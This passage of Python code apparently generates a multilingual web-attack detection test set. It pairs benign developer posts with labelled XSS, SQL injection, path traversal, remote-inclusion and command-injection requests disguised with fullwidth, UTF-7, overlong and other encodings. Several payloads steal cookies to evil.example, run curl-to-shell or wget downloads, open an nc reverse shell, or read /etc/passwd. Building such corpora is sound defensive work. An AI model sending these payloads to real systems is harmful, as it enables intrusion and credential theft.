    ("tr", "-- Ders 4: LIKE\nSELECT ad, soyad FROM öğrenciler WHERE soyad LIKE 'Yıl%';"),
]

DEV_HOSTS = {"qiita": "qiita.com", "zenn": "zenn.dev", "juejin": "juejin.cn", "segmentfault": "segmentfault.com", "csdn": "blog.csdn.net",
             "habr": "habr.com", "dou": "dou.ua", "velog": "v2.velog.io", "so-pt": "pt.stackoverflow.com", "so-es": "es.stackoverflow.com",
             "forum-de": "forum.ubuntuusers.de", "forum-fr": "forum.developpez.net", "viblo": "viblo.asia", "forum-tr": "forum.donanimhaber.com"}


def dev_content():
    out = []
    r = random.Random("dev-content")
    i = 0

    def add(gen, d, lang):
        nonlocal i
        i += 1
        d.setdefault("browser", True)
        d.setdefault("lang", lang)
        out.append(emit("%s/dev-content/%s-%03d" % (SET, gen, i), "dev-content", "pass", d, r))
    for k, (lang, site, title, body) in enumerate(DEV_POSTS):
        host = DEV_HOSTS[site]
        if site in ("qiita", "zenn"):
            add("ja_posts", dict(method="POST" if k % 2 else "PATCH", host=host, path=("/api/v2/items" if k % 2 else "/api/v2/items/" + hexid(r, 20)) if site == "qiita" else "/api/articles/%s" % alnum(r, 14),
                                 body=js({"title": title, "body": body, "tags": [{"name": "SQL"}, {"name": "初心者"}], "private": False}),
                                 extra=[["Authorization", "Bearer " + hexid(r, 40)]]), lang)
        elif site in ("so-pt", "so-es"):
            form = [("post-text", body), ("title", title), ("tagnames", "sql mysql"), ("fkey", hexid(r, 64)), ("author", ""), ("i1l", "")]
            add("stackoverflow_l10n", dict(method="POST", host=host, path="/posts/%d/answer-submit" % r.randint(10 ** 5, 10 ** 6),
                                           body=qf(form), ctype="application/x-www-form-urlencoded"), lang)
        elif site == "velog":
            add("velog_graphql", dict(method="POST", host=host, path="/graphql",
                                      body=js({"operationName": "WritePost", "variables": {"title": title, "body": body, "tags": ["react", "sql"], "is_markdown": True,
                                                                                           "is_temp": False, "url_slug": title.replace(" ", "-")},
                                               "query": "mutation WritePost($title: String, $body: String, $tags: [String], $is_markdown: Boolean, $is_temp: Boolean, $url_slug: String) {\n  writePost(title: $title, body: $body, tags: $tags, is_markdown: $is_markdown, is_temp: $is_temp, url_slug: $url_slug) {\n    id\n    url_slug\n  }\n}\n"})), lang)
        elif site in ("juejin", "segmentfault", "csdn"):
            add("zh_posts", dict(method="POST", host=host, path="/content_api/v1/article_draft/update" if site == "juejin" else "/api/article/save",
                                 body=js({"id": str(r.randint(10 ** 18, 10 ** 19)), "title": title, "mark_content": body, "category_id": "6809637769959178254", "tag_ids": ["6809640366896054286"]})), lang)
        else:
            form = [("comment[body]", body), ("comment[title]", title), ("_token", alnum(r, 40))]
            add("forum_posts", dict(method="POST", host=host, path="/api/comments" if site == "habr" else "/post/reply",
                                    body=js({"text_html": body, "title": title}) if site == "habr" else qf(form),
                                    ctype=None if site == "habr" else "application/x-www-form-urlencoded"), lang)
    for k in range(len(SQL_TUTORIAL) * 2):
        lang, sql = SQL_TUTORIAL[k % len(SQL_TUTORIAL)]
        if k < len(SQL_TUTORIAL):
            add("sql_tutorial", dict(method="POST", host="sql-playground.acme-edu.com", path="/api/run", body=js({"dialect": "mysql", "sql": sql, "locale": lang}),
                                     extra=[["X-Course", "sql-101"]]), lang)
        else:
            add("sql_tutorial", dict(method="PUT", host="docs.acme-edu.com", path="/api/pages/%s/sql-lesson-%d" % (lang, k), body=js({"markdown": "```sql\n" + sql + "\n```\n", "lang": lang})), lang)
    # snippets shared from a localized pastebin, as form posts
    pastes = [("zh-CN", "bash", "curl -s https://example.com/install.sh | bash  # 官方安装脚本，请先审阅！"),
              ("ja", "powershell", "Get-ChildItem -Path C:\\ログ -Recurse | Where-Object { $_.Length -gt 10MB } | Remove-Item -WhatIf"),
              ("ru", "python", "import subprocess\nsubprocess.run(['ls', '-la', '/tmp'], check=True)  # без shell=True!"),
              ("ko", "html", "<form action=\"/login\" method=\"post\">\n  <input name=\"id\" placeholder=\"아이디\">\n  <input type=\"password\" name=\"pw\">\n</form>"),
              ("de", "sql", "SELECT * FROM kunden WHERE ort = 'Köln' AND plz LIKE '50%';")]
    for k in range(5):
        lang, syn, code = pastes[k]
        add("paste", dict(method="POST", host="paste.acme-dev.com", path="/", body=qf([("code", code), ("lang", syn), ("expire", "1W"), ("title", "snippet")]),
                          ctype="application/x-www-form-urlencoded"), lang)
    return out


# ---------------------------------------------------------------------------
# attacks: sinks (multilingual places a text payload lands in)
# ---------------------------------------------------------------------------

def s_search(r, lang, p):
    return dict(method="GET", host=SHOPS[lang], path="/search", params=[(SEARCH_PARAM.get(lang, "q"), p), ("page", "1")], browser=True, lang=lang,
                extra=[["Cookie", cookie(r, lang)]])


def s_search_xhr(r, lang, p):
    return dict(method="GET", host=SHOPS[lang], path="/api/v1/products", raw_query="q=" + quote(p, safe="") + "&locale=" + lang + "&limit=20",
                browser=True, lang=lang, accept="application/json")


def s_review(r, lang, p):
    return dict(method="POST", host=SHOPS[lang], path="/api/v2/products/%d/reviews" % r.randint(10000, 999999),
                body=js({"rating": r.randint(1, 5), "title": r.choice(REVIEWS.get(lang, REVIEWS["en"]))[:10], "body": p, "locale": lang}), browser=True, lang=lang,
                extra=[["X-Requested-With", "XMLHttpRequest"]])


def s_forum(r, lang, p):
    return dict(method="POST", host=FORUMS.get(lang, FORUMS["en"]), path="/posting.php", params=[("mode", "reply"), ("f", str(r.randint(1, 30))), ("t", str(r.randint(1000, 99999)))],
                body=qf([("subject", "Re: " + r.choice(["质问", "質問", "질문", "Вопрос", "سؤال", "שאלה", "Frage", "Question"])), ("message", p), ("form_token", hexid(r, 40)), ("post", "Submit")]),
                ctype="application/x-www-form-urlencoded", browser=True, lang=lang)


def s_profile(r, lang, p):
    return dict(method="PATCH", host="api.acme-social.com", path="/v1/users/me", body=js({"display_name": p, "locale": lang}), browser=True, lang=lang,
                extra=[["Authorization", "Bearer " + alnum(r, 43)]])


def s_tms(r, lang, p):
    return _tms_request(r, lang, p, r.choice(["cart.items", "home.title", "email.welcome", "checkout.note"]))


def s_translate(r, lang, p):
    return dict(method="POST", host="translate.acme.io", path="/translate", body=js({"q": p, "source": "auto", "target": "en", "format": "text"}), browser=True, lang=lang)


def s_comment(r, lang, p):
    return dict(method="POST", host=NEWS.get(lang, "news.acme-global.com"), path="/api/comments", body=js({"article_id": r.randint(10000, 99999), "text": p, "name": r.choice(["أحمد", "שירה", "Иван", "王伟", "ゆうき"])}),
                browser=True, lang=lang, extra=[["Content-Language", lang]])


def s_address(r, lang, p):
    zipc, line1, city = ADDRESSES.get(lang, ADDRESSES["en"])
    return dict(method="POST", host=SHOPS[lang], path="/api/checkout/address",
                body=js({"shipping_address": {"first_name": person(r)[0], "last_name": person(r)[1], "address1": line1, "address2": p, "city": city, "postal_code": zipc}}),
                browser=True, lang=lang)


def s_chat(r, lang, p):
    return dict(method="POST", host="chat.acme-messenger.com", path="/api/v1/rooms/%s/messages" % alnum(r, 17), body=js({"msg": p, "client_msg_id": uuid(r)}),
                browser=True, lang=lang, extra=[["X-Auth-Token", alnum(r, 43)]])


TEXT_SINKS = [s_search, s_search_xhr, s_review, s_forum, s_profile, s_tms, s_translate, s_comment, s_address, s_chat]


def place(r, lang, p, sinks=None):
    lang = lang if lang in SHOPS else "en"
    return r.choice(sinks or TEXT_SINKS)(r, lang, p)


def upload(r, host, path, filename_params, ctype, content, extra_parts=(), ua=None, lang="en", extra=None):
    ua = ua or r.choice(UAS)
    b = boundary(r, ua)
    body = multipart(b, list(extra_parts) + [("file", filename_params, ctype, content)])
    return dict(method="POST", host=host, path=path, body=body, ctype="multipart/form-data; boundary=" + b, ua=ua, browser=True, lang=lang, extra=extra)


def hdr(r, lang, headers, path="/", host=None, method="GET"):
    return dict(method=method, host=host or SHOPS.get(lang, SHOPS["en"]), path=path, browser=True, no_lang=True, lang=lang,
                extra=[list(h) for h in headers] + ([] if any(h[0] == "Accept-Language" for h in headers) else [["Accept-Language", LOCALES.get(lang, lang)]]))


def rawq(r, lang, path, query, host=None):
    return dict(method="GET", host=host or SHOPS.get(lang, SHOPS["en"]), path=path, raw_query=query, browser=True, lang=lang)


JSON_SINKS = [s_review, s_profile, s_translate, s_comment, s_address, s_chat]


def place_json(r, lang, p):
    """Payload carries literal \\uXXXX escapes that must reach the wire as JSON escapes."""
    d = place(r, lang, p, JSON_SINKS)
    d["body"] = d["body"].replace("\\\\u", "\\u")
    return d


def utf7_all(s):
    """UTF-7 with every non-alphanumeric character base64-encoded (what a payload generator emits)."""
    out, run = [], ""

    def flush():
        nonlocal run
        if run:
            out.append("+" + base64.b64encode(run.encode("utf-16-be")).decode().rstrip("=") + "-")
            run = ""
    for c in s:
        if c.isascii() and (c.isalnum() or c in " \n"):
            flush()
            out.append(c)
        else:
            run += c
    flush()
    return "".join(out)


def crowdin_upload(r, filename_params, ctype, content, lang="ja"):
    b = boundary(r, "curl")
    body = multipart(b, [("file", filename_params, ctype, content), ("importEqSuggestions", "false")])
    return dict(method="POST", host="acme.api.crowdin.com", path="/api/v2/projects/%d/translations/%s" % (r.randint(10, 999), lang),
                body=body, ctype="multipart/form-data; boundary=" + b, ua="curl/8.5.0", extra=[["Authorization", "Bearer " + alnum(r, 40)]])


def raw_post(host, uri, ctype, data, lang=None, extra=()):
    return dict(raw=True, method="POST", host=host, uri=uri, headers=[["Content-Type", ctype], ["Accept", "*/*"]] + list(extra), body_bytes=data, lang=lang)


SSRF_SINKS = [
    lambda r, u: dict(method="POST", host="tolgee.acme.io", path="/v2/projects/7/import-url", body=js({"url": u, "format": "xliff", "languageTag": "ja"}), browser=True, lang="ja"),
    lambda r, u: dict(method="POST", host="acme.api.crowdin.com", path="/api/v2/projects/%d/webhooks" % r.randint(10, 999),
                      body=js({"name": "翻訳完了通知", "url": u, "events": ["translation.updated"], "requestType": "POST"}), ua="crowdin-cli/4.4.0", extra=[["Authorization", "Bearer " + alnum(r, 40)]]),
    lambda r, u: dict(method="PATCH", host="api.acme-social.com", path="/v1/users/me", body=js({"display_name": "김민준", "avatar_url": u}), browser=True, lang="ko"),
    lambda r, u: dict(method="POST", host="chat.acme-messenger.com", path="/api/v1/link-preview", body=js({"url": u, "lang": "zh-CN"}), browser=True, lang="zh-CN"),
    lambda r, u: dict(method="GET", host="weblate.acme.io", path="/api/glossary/import", params=[("src", u), ("lang", "ru")], browser=True, lang="ru"),
    lambda r, u: dict(method="POST", host="reader.hongmall.cn", path="/api/feeds", body=js({"feed_url": u, "folder": "科技"}), browser=True, lang="zh-CN"),
]


def attacks():
    out = []

    def G(cat, gen, builder):
        r = random.Random("attack-%s-%s" % (cat, gen))
        for i, a in enumerate(builder(r), 1):
            out.append(emit("%s/%s/%s-%03d" % (SET, cat, gen, i), cat, "detect", a, r))

    def T(payloads, sinks=None):
        return lambda r: [place(r, l, p, sinks) for l, p in payloads]

    def TJ(payloads):
        return lambda r: [place_json(r, l, p) for l, p in payloads]

    # ---- XSS ---------------------------------------------------------------
    G("xss", "fullwidth", T([
        ("ja", "とても良い商品です＜script＞alert(document.domain)＜／script＞"),
        ("ja", "＜img src=x onerror=alert(document.cookie)＞"),
        ("zh-CN", "好评！＜svg onload=alert(1)＞"),
        ("zh-CN", "﹤script﹥fetch('//evil.example/c?'+document.cookie)﹤/script﹥"),
        ("ko", "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞"),
        ("ja", "＜iframe src=javascript:alert(1)＞＜／iframe＞"),
        ("zh-TW", "＜a href＝＂javascript:alert(document.domain)＂＞點我＜／a＞"),
        ("ja", "＜body onload＝alert（document.cookie）＞"),
    ], [s_search, s_search_xhr, s_review, s_forum, s_comment, s_chat]))
    G("xss", "iis-u", lambda r: [
        rawq(r, "ja", "/search", "kw=%uFF1Cscript%uFF1Ealert(1)%uFF1C/script%uFF1E"),
        rawq(r, "zh-CN", "/search", "keyword=%u003Cscript%u003Ealert(document.cookie)%u003C/script%u003E"),
        rawq(r, "ko", "/search", "query=%u003Cimg%20src%3Dx%20onerror%3Dalert(1)%u003E"),
        rawq(r, "ja", "/Default.aspx", "name=%uFF1Csvg%20onload%3Dalert(1)%uFF1E&lang=ja", host="legacy-crm.sakura-ec.jp"),
        rawq(r, "zh-CN", "/Search.aspx", "q=%uFE64script%uFE65alert(1)%uFE64/script%uFE65", host="oa.hongmall.cn"),
    ])
    G("xss", "utf7", lambda r: [
        dict(method="POST", host=FORUMS["ja"], path="/posting.php", params=[("mode", "reply"), ("f", "3"), ("t", "1200")],
             body="subject=" + quote_plus("質問") + "&message=" + quote_plus("+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-") + "&post=Submit",
             ctype="application/x-www-form-urlencoded; charset=UTF-7", browser=True, lang="ja"),
        rawq(r, "ja", "/search", "kw=%2BADw-script%2BAD4-alert(1)%2BADw-%2Fscript%2BAD4-&ie=UTF-7"),
        dict(method="PUT", host="cms.acme-global.com", path="/api/pages/ja/about", body="+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
             ctype="text/html; charset=utf-7", browser=True, lang="ja"),
        dict(method="PATCH", host="api.acme-social.com", path="/v1/users/me", body=js({"bio": "+ADw-script+AD4-alert(document.domain)+ADw-/script+AD4-", "locale": "ko"}),
             ctype="application/json; charset=utf-7", browser=True, lang="ko"),
    ])
    G("xss", "utf16", lambda r: [
        raw_post(NEWS["ar"], "/api/comments", "application/json; charset=utf-16le", '{"article_id":4512,"text":"<script>alert(document.cookie)</script>"}'.encode("utf-16-le"), lang="ar"),
        raw_post(FORUMS["ru"], "/api/posts", "text/plain; charset=UTF-16", "\ufeff<img src=x onerror=alert(1)> Привет".encode("utf-16-be"), lang="ru"),
        raw_post(SHOPS["ja"], "/api/reviews", "application/x-www-form-urlencoded; charset=utf-16le", "body=<svg onload=alert(document.domain)>&rating=5".encode("utf-16-le"), lang="ja"),
    ])
    G("xss", "json-escape", TJ([
        ("ja", "\\u003cscript\\u003ealert(document.cookie)\\u003c/script\\u003e"),
        ("zh-CN", "\\u003cimg src=x onerror=\\u0022alert(1)\\u0022\\u003e"),
        ("ko", "\\u003csvg/onload=\\u0061lert(document.domain)\\u003e"),
        ("ja", "\\uff1cscript\\uff1ealert(1)\\uff1c/script\\uff1e"),
        ("ru", "\\u003ca href=\\u0022javascript:alert(1)\\u0022\\u003eподробнее\\u003c/a\\u003e"),
    ]))
    G("xss", "js-unicode", T([
        ("ja", "<img src=x onerror=\\u0061lert(document.cookie)>"),
        ("de", "<a href=\"javascript:\\u0061\\u006c\\u0065\\u0072\\u0074(1)\">Mehr</a>"),
        ("zh-CN", "<svg onload=\\u{61}lert`1`>"),
        ("ru", "<script>eval('\\x61lert(document.cookie)')</script>"),
    ]))
    G("xss", "translation", lambda r: [
        s_tms(r, "ja", "{count, plural, one {<img src=x onerror=alert(document.cookie)>} other {# 件}}"),
        s_tms(r, "fr", "Bienvenue <script>fetch('https://evil.example/?c='+document.cookie)</script>"),
        s_tms(r, "de", "<b>{name}</b> hat dich eingeladen<svg/onload=alert(1)>"),
        s_tms(r, "zh-CN", "欢迎 {{constructor.constructor('alert(document.domain)')()}}"),
        s_tms(r, "ar", "مرحباً <iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
        crowdin_upload(r, fn_plain("strings.xml"), "text/xml", '<?xml version="1.0" encoding="utf-8"?>\n<resources>\n    <string name="terms"><![CDATA[<a href="javascript:alert(document.cookie)">利用規約</a>]]></string>\n</resources>\n'),
        crowdin_upload(r, fn_plain("messages.ko.xlf"), "application/x-xliff+xml",
                       xliff(r, "ko", [("welcome", "Welcome", "&lt;script&gt;alert(document.cookie)&lt;/script&gt;환영합니다")]), lang="ko"),
    ])
    G("xss", "bidi", T([
        ("ar", "تعليق رائع \u202e<svg/onload=alert(document.cookie)>"),
        ("he", "<a href=\"javascript:alert(1)\">\u202emoc.elgoog.www\u202c</a> לחצו כאן"),
        ("ar", "\u202b<img src=x onerror=alert(1)>\u202c شكراً"),
    ], [s_comment, s_forum, s_chat]))
    G("xss", "filename", lambda r: [
        upload(r, "drive.acme-cloud.com", "/api/v3/files/upload", fn_5987("<img src=x onerror=alert(document.cookie)>.jpg"), "text/plain", "写真", lang="ja"),
        upload(r, "drive.acme-cloud.com", "/api/v3/files/upload", fn_plain("＜svg onload=alert(1)＞.png"), "text/plain", "画像", lang="zh-CN"),
        upload(r, "files.acme-cloud.com", "/v1/uploads", fn_plain("写真<script>alert(1)</script>.jpg"), "text/plain", "x", lang="ja"),
    ])
    G("xss", "header", lambda r: [
        hdr(r, "ja", [["Accept-Language", "ja,<script>alert(1)</script>;q=0.9"]], path="/ja/"),
        hdr(r, "ja", [["Referer", "https://shop.sakura-ec.jp/%E6%A4%9C%E7%B4%A2?kw=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E"]], path="/ja/login"),
    ])

    # ---- SQLi --------------------------------------------------------------
    sql_sinks = [s_search, s_search_xhr, s_review, s_forum, s_address, s_profile]
    G("sqli", "cjk-text", T([
        ("zh-CN", "手机壳' UNION SELECT username,password FROM users-- -"),
        ("ja", "東京' AND 1=CONVERT(int,(SELECT @@version))--"),
        ("ko", "서울' OR '1'='1"),
        ("he", "מחיר' OR 1=1#"),
        ("ru", "Москва'; DROP TABLE orders;--"),
        ("ar", "بحث' AND SLEEP(5)-- -"),
        ("th", "ราคา') OR ('a'='a"),
        ("vi", "Hà Nội' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -"),
        ("uk", "Київ' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"),
        ("el", "Αθήνα' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ], sql_sinks))
    G("sqli", "fullwidth", T([
        ("ja", "１＇ ＯＲ ＇１＇＝＇１"),
        ("zh-CN", "admin＇ －－ "),
        ("ko", "＇ ｕｎｉｏｎ ｓｅｌｅｃｔ ｐａｓｓｗｏｒｄ ｆｒｏｍ ｕｓｅｒｓ－－"),
        ("ja", "商品＇ AND SLEEP(5)#"),
        ("zh-CN", "x＇）ｏｒ（＇ａ＇＝＇ａ"),
        ("ja", "書籍＇ UNION SELECT name, pass FROM members--"),
    ], sql_sinks))
    bf = lambda r, p: dict(method="GET", host="legacy-crm.sakura-ec.jp", path="/Search.aspx", params=[("q", p), ("ctl00$lang", "ja-JP")], browser=True, lang="ja")
    bfp = lambda r, p: dict(method="POST", host="intranet.acme-global.com", path="/Account/Login.aspx",
                            body=qf([("__VIEWSTATE", "/wEPDwUK" + alnum(r, 40)), ("ctl00$Main$UserName", p), ("ctl00$Main$Password", "x"), ("ctl00$Main$Login", "ログイン")]),
                            ctype="application/x-www-form-urlencoded", browser=True, lang="ja")
    G("sqli", "bestfit", lambda r: [
        bfp(r, "admin\u00b4 OR 1=1--"),
        bf(r, "1\u02bc UNION SELECT username, password FROM users--"),
        bf(r, "x\u2032 or \u20321\u2032=\u20321"),
        bfp(r, "O\u2019Brien\u2019; EXEC xp_cmdshell \u2019whoami\u2019--"),
        bf(r, "\uff02 OR \uff021\uff02=\uff021"),
        bf(r, "\u2018 UNION SELECT @@version, NULL--"),
    ])
    G("sqli", "iis-u", lambda r: [
        rawq(r, "ja", "/Product.aspx", "id=1%u0027%20OR%201=1--", host="legacy-crm.sakura-ec.jp"),
        rawq(r, "zh-CN", "/Search.aspx", "q=%u02bc%20union%20select%20password%20from%20users--", host="oa.hongmall.cn"),
        rawq(r, "ko", "/Default.aspx", "name=x%u2019%20or%20%u20191%u2019=%u20191", host="erp.hanbit-mall.co.kr"),
        rawq(r, "ja", "/List.aspx", "cat=%u0027%u0020AND%u0020SLEEP(5)%u0023", host="legacy-crm.sakura-ec.jp"),
    ])
    G("sqli", "overlong", lambda r: [
        rawq(r, "ru", "/catalog.php", "id=1%C0%A7%20OR%201=1--%20-"),
        rawq(r, "zh-CN", "/login.php", "user=admin%E0%80%A7--&pass=x"),
        rawq(r, "ja", "/search.php", "kw=x%C0%A7%20UNION%20SELECT%20NULL,version()--"),
    ])
    G("sqli", "multibyte", lambda r: [
        rawq(r, "zh-CN", "/product.php", "id=%BF%27%20OR%201=1--%20", host="www.hongmall.cn"),
        dict(method="POST", host="bbs.hongmall.cn", path="/login.php", body="username=%DF%27%20OR%201%3D1%23&password=x&submit=%B5%C7%C2%BC",
             ctype="application/x-www-form-urlencoded; charset=GBK", browser=True, lang="zh-CN"),
        rawq(r, "zh-CN", "/news.php", "id=%A8%27%20UNION%20SELECT%201,user(),3--%20&lang=zh-cn", host="news.hongmall.cn"),
        rawq(r, "zh-TW", "/search.asp", "q=%A5%27%20OR%201=1--", host="www.lianhe-shop.com.tw"),
        rawq(r, "ja", "/item.php", "kw=%95%27%20OR%201=1--%20&ie=Shift_JIS", host="shop.sakura-ec.jp"),
    ])
    G("sqli", "json-escape", TJ([
        ("ja", "\\u0027 OR 1=1--"),
        ("zh-CN", "1\\u0027 UNION SELECT username,password FROM users--"),
        ("ja", "東京\\u0027 AND SLEEP(5)-- -"),
        ("ru", "\\u0022 OR \\u00221\\u0022=\\u00221"),
    ]))
    G("sqli", "header", lambda r: [
        hdr(r, "zh-CN", [["Accept-Language", "zh-CN' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"]]),
        hdr(r, "ja", [["Cookie", "lang=ja' OR '1'='1; sid=" + alnum(r, 32)]]),
        dict(method="PUT", host="api.acme-global.com", path="/v1/users/me/preferences", body=js({"locale": "de"}), browser=True, lang="de",
             extra=[["Content-Language", "de'||pg_sleep(5)--"]]),
        hdr(r, "ko", [["X-Locale", "ko-KR' UNION SELECT NULL,password FROM admins--"]], path="/api/v1/home"),
    ])
    G("sqli", "locale-param", lambda r: [
        dict(method="GET", host="www.acme-global.com", path="/api/i18n/strings", params=[("locale", "ko' UNION SELECT key_name,value FROM secrets--"), ("ns", "common")], browser=True, lang="ko"),
        dict(method="GET", host="www.acme-global.com", path="/api/translations", params=[("lang", "ja"), ("key", "cart.title' OR '1'='1")], browser=True, lang="ja"),
        dict(method="GET", host="tolgee.acme.io", path="/v2/projects/7/translations", params=[("languages", "ru"), ("sort", "keyName,(SELECT CASE WHEN (1=1) THEN pg_sleep(5) END)")], browser=True, lang="ru"),
    ])

    # ---- LFI ---------------------------------------------------------------
    dl = lambda r, lang, k, p, path="/download": dict(method="GET", host=SHOPS[lang], path=path, params=[(k, p)], browser=True, lang=lang)
    G("lfi", "fullwidth", lambda r: [
        dl(r, "ja", "file", "．．／．．／．．／．．／etc／passwd"),
        dl(r, "zh-CN", "page", "..／..／..／..／etc/passwd", "/index.php"),
        dl(r, "ko", "doc", "．．∕．．∕．．∕etc∕passwd"),
        dl(r, "ja", "template", "..＼..＼..＼windows＼win.ini", "/view.aspx"),
        dl(r, "zh-TW", "path", "‥/‥/‥/‥/etc/shadow"),
        dl(r, "ja", "lang", "．．／．．／．．／．．／proc／self／environ", "/"),
    ])
    G("lfi", "overlong", lambda r: [
        dict(method="GET", host=SHOPS["ru"], path="/static/%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd", raw_path=True, browser=True, lang="ru"),
        rawq(r, "ja", "/download", "file=..%C0%AF..%C0%AF..%C0%AFetc%C0%AFpasswd"),
        rawq(r, "zh-CN", "/download", "file=%E0%80%AE%E0%80%AE/%E0%80%AE%E0%80%AE/%E0%80%AE%E0%80%AE/etc/passwd"),
        rawq(r, "ko", "/view.asp", "page=..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
        dict(raw=True, method="GET", host=SHOPS["ja"], uri=b"/i18n/\xc0\xae\xc0\xae\xc0\xaf\xc0\xae\xc0\xae\xc0\xaf\xc0\xae\xc0\xae\xc0\xafetc/passwd",
             headers=[["Accept", "*/*"]], lang="ja"),
        dict(raw=True, method="GET", host=SHOPS["ko"], uri=b"/download?file=..\xc0\xaf..\xc0\xaf..\xc0\xaf..\xc0\xafetc\xc0\xafpasswd", headers=[["Accept", "*/*"]], lang="ko"),
    ])
    G("lfi", "iis-u", lambda r: [
        rawq(r, "ja", "/Download.aspx", "file=..%u2215..%u2215..%u2215windows%u2215win.ini", host="legacy-crm.sakura-ec.jp"),
        rawq(r, "zh-CN", "/download", "f=%u002e%u002e%u002f%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
        rawq(r, "ko", "/", "lang=%uff0e%uff0e%uff0f%uff0e%uff0e%uff0f%uff0e%uff0e%uff0fetc%uff0fpasswd"),
        rawq(r, "ja", "/View.aspx", "doc=..%u005c..%u005c..%u005c..%u005cboot.ini", host="legacy-crm.sakura-ec.jp"),
    ])
    G("lfi", "locale", lambda r: [
        dict(method="GET", host=SHOPS["de"], path="/index.php", params=[("lang", "../../../../etc/passwd")], browser=True, lang="de"),
        rawq(r, "fr", "/", "locale=..%2F..%2F..%2F..%2Fetc%2Fpasswd%00"),
        hdr(r, "es", [["Cookie", "lang=../../../../../proc/self/environ; PHPSESSID=" + hexid(r, 26)]], path="/index.php"),
        hdr(r, "pt", [["Accept-Language", "../../../../../../etc/passwd"]], path="/"),
        dict(method="GET", host="www.acme-global.com", path="/locales/..%2f..%2f..%2f..%2fetc%2fpasswd/translation.json", raw_path=True, browser=True, lang="en"),
        dict(method="GET", host="weblate.acme.io", path="/api/translations/export", params=[("file", "../../../config/database.yml"), ("format", "po")], browser=True, lang="ru"),
        dict(method="GET", host="www.acme-global.com", path="/i18n/..%5C..%5C..%5C..%5Cwindows%5Cwin.ini", raw_path=True, browser=True, lang="ja"),
        dict(method="GET", host=SHOPS["tr"], path="/", params=[("hl", "....//....//....//....//etc/passwd")], browser=True, lang="tr"),
        dict(method="GET", host="www.acme-global.com", path="/locales/resources.json", params=[("lng", "../../../../etc/passwd"), ("ns", "common")], browser=True, lang="en"),
    ])
    G("lfi", "filename", lambda r: [
        upload(r, "files.acme-cloud.com", "/v1/uploads", fn_5987("../../../var/www/html/资料.txt"), "text/plain", "资料", lang="zh-CN"),
        upload(r, "drive.acme-cloud.com", "/api/v3/files/upload", fn_plain("．．／．．／．．／app／config／settings.py"), "text/plain", "DEBUG = True", lang="ja"),
        upload(r, "drive.acme-cloud.com", "/api/v3/files/upload", fn_plain("..\\..\\..\\Windows\\Temp\\отчёт.txt"), "text/plain", "отчёт", lang="ru"),
    ])
    G("lfi", "json", lambda r: [
        dict(method="POST", host="tolgee.acme.io", path="/v2/projects/7/import", body=jsu({"file": "\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/etc/passwd", "languageTag": "ja"}), browser=True, lang="ja"),
        dict(method="POST", host="cms.acme-global.com", path="/api/render", body=js({"template": "..\u2215..\u2215..\u2215..\u2215etc\u2215passwd", "locale": "ko"}), browser=True, lang="ko"),
        dict(method="POST", host="www.acme-global.com", path="/api/i18n/load", body=jsu({"locale": "../../../../../etc/passwd\\u0000", "ns": "common"}), browser=True, lang="de"),
    ])

    # ---- RFI ---------------------------------------------------------------
    evil_idn = idna_host("злой-сайт.рф")
    G("rfi", "locale", lambda r: [
        dict(method="GET", host=SHOPS["de"], path="/index.php", params=[("lang", "http://evil.example/shell.txt?")], browser=True, lang="de"),
        dict(method="GET", host=SHOPS["ru"], path="/index.php", params=[("locale", "https://%s/lang.txt?" % evil_idn)], browser=True, lang="ru"),
        dict(method="GET", host=SHOPS["pl"], path="/index.php", params=[("language", "ftp://203.0.113.7/pub/pl.php")], browser=True, lang="pl"),
        rawq(r, "fr", "/index.php", "lang=%5C%5Cevil.example%5Cshare%5Cfr.php"),
        dict(method="GET", host=SHOPS["es"], path="/index.php", params=[("lang", "hTtPs://evil.example/x.txt?")], browser=True, lang="es"),
        dict(method="GET", host=SHOPS["ja"], path="/index.php", params=[("lang", "ｈｔｔｐ：／／evil.example／shell.txt？")], browser=True, lang="ja"),
        hdr(r, "pt", [["Cookie", "lang=http://203.0.113.9/c99.txt?; PHPSESSID=" + hexid(r, 26)]], path="/index.php"),
    ])

    # ---- RCE ---------------------------------------------------------------
    G("rce", "text-tools", lambda r: [
        dict(method="GET", host="tts.acme-global.com", path="/api/tts", params=[("text", "深圳欢迎你;cat /etc/passwd"), ("voice", "zh-CN-XiaoxiaoNeural")], browser=True, lang="zh-CN"),
        dict(method="POST", host="print.sakura-ec.jp", path="/api/render-label", body=qf([("text", "東京$(id)"), ("font", "NotoSansJP")]), ctype="application/x-www-form-urlencoded", browser=True, lang="ja"),
        dict(method="GET", host="tools.kalyna.ua", path="/transliterate", params=[("text", "Київ$(curl -s http://evil.example/x.sh|sh)"), ("from", "uk")], browser=True, lang="uk"),
        dict(method="POST", host="fonts.talad-thai.co.th", path="/api/fonts/preview", body=js({"text": "ไทย && wget http://198.51.100.7/b -O /tmp/b && chmod +x /tmp/b && /tmp/b", "font": "Sarabun"}), browser=True, lang="th"),
        dict(method="GET", host="docs.bazaar-bharat.in", path="/api/pdf", params=[("title", "नमस्ते;nc -e /bin/sh 203.0.113.9 4444")], browser=True, lang="hi"),
        dict(method="POST", host="ocr.hanbit-mall.co.kr", path="/api/ocr", body=qf([("lang", "kor+eng; curl http://evil.example/`whoami`"), ("image_url", "https://cdn.hanbit-mall.co.kr/a.png")]),
             ctype="application/x-www-form-urlencoded", browser=True, lang="ko"),
    ])
    G("rce", "filename", lambda r: [
        upload(r, "convert.acme-cloud.com", "/api/convert", fn_5987("報告.pdf;curl evil.example|sh"), "text/plain", "報告", lang="ja"),
        upload(r, "convert.acme-cloud.com", "/api/convert", fn_plain("資料$(id).docx"), "text/plain", "資料", lang="zh-CN"),
        upload(r, "weblate.acme.io", "/api/translations/acme/web/de/file/", fn_plain("a`id`.po"), "text/x-gettext-translation", 'msgid "a"\nmsgstr "b"\n', lang="de"),
